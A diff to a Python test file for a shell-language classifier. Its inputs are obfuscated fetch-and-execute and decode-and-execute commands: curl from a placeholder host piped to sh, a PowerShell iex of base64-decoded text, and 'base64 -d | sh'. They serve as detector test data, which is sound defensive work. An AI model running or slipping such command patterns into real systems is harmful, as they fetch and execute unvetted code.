@@ -234,3 +234,10 @@ def test_a_backslash_in_a_powershell_path_is_no_shell_escape(text: str) -> None:
 
 def test_a_backslash_inside_a_shell_word_still_makes_a_shell_reading() -> None:
     assert "posix" in languages("c\\url -s https://a.test/x | s\\h".lower())
+
+
+def test_dotnet_base64_is_no_sign_of_the_base64_program() -> None:
+    dotnet = "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdy')))"
+    assert languages(dotnet.lower()) == ["powershell"]
+    assert "posix" in languages("echo aXdy | base64 -d | sh")
+    assert "posix" in languages(f"echo aXdy | base64 -d | sh; {dotnet}".lower())
